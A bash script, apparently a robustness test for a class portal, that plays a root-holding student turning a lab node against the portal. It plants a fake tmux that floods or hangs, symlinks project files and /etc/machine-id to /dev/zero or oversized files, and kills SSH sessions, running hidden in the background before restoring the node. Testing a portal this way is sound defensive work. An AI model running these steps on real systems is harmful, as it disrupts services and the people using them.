#!/usr/bin/env bash
# Turns a node of a class against its portal, as a student with root could. Run on the node as root; works in the background
# for LAB_SECONDS, then restores what it changed.
set -euo pipefail
: "${LAB_SECONDS:?}"

# One terminal in three reads nothing, one repeats characters without end, one prints as fast as it can; the check of a
# step, which reads the terminal's text, gets output without end.
install --mode=755 /dev/stdin /usr/local/bin/tmux <<'TMUX'
#!/usr/bin/env bash
case " $* " in
  *" has-session "*) exit 1 ;;
  *" capture-pane "*) exec cat /dev/zero ;;
esac
case $((RANDOM % 3)) in
  0) exec sleep 1000 ;;
  1) while printf 'x\033[2147483647b'; do :; done ;;
  2) exec yes 'a line without an end that is printed as fast as the machine can' ;;
esac
TMUX

attack() {
  local end=$((SECONDS + LAB_SECONDS)) turn=0 machine_id home
  machine_id=$(cat /etc/machine-id)
  # Made once each: the attack is on what reads them, not on the disk that all nodes and the portal share here.
  head -c 50000000 /dev/zero | tr '\0' a > /root/large-machine-id
  head -c 480000 /dev/zero | tr '\0' '\r' > /root/carriage-returns
  printf '%s\n' "$machine_id" > /root/machine-id
  chmod 755 /root
  home=$(getent passwd student | cut --delimiter=: --fields=6)
  cd "$home"
  while ((SECONDS < end)); do
    turn=$((turn + 1))
    rm -f index.js Dockerfile
    case $((turn % 2)) in
      0) ln -s /dev/zero index.js ;;
      1) ln -s /root/carriage-returns index.js ;;
    esac
    ln -s /dev/zero Dockerfile
    # Every third time the node's identity is 50 MB long, and the portal has to connect again.
    case $((turn % 3)) in
      0) ln -sf /root/large-machine-id /etc/machine-id ;;
      *) ln -sf /root/machine-id /etc/machine-id ;;
    esac
    if ((turn % 3 == 0)); then
      pkill --euid student --full 'sshd: student' || true
    fi
    sleep 1
  done
  rm -f /etc/machine-id index.js Dockerfile /usr/local/bin/tmux /root/large-machine-id /root/carriage-returns
  printf '%s\n' "$machine_id" > /etc/machine-id
}

attack > /dev/null 2>&1 < /dev/null &
disown
